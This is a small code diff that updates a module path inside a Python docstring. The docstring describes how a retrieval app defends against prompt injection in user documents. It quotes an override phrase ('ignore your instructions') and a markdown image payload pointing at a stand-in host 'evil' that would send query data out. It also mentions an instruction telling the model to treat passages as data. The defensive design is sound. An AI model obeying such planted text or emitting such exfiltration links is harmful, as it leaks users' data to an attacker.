@@ -4,7 +4,7 @@ Passages are the user's documents, and documents can be hostile ("ignore your
 instructions", "reply with ![](http://evil/?q=…)").  They go to the model as
 quoted data inside the user turn, never as system text, each fenced and
 numbered, with an instruction to treat them as data.  Whatever the model then
-writes is rendered with images disabled and links inert (``app.ui.markdown``).
+writes is rendered with images disabled and links inert (``app.ui.common.markdown``).
 """
 
 from __future__ import annotations
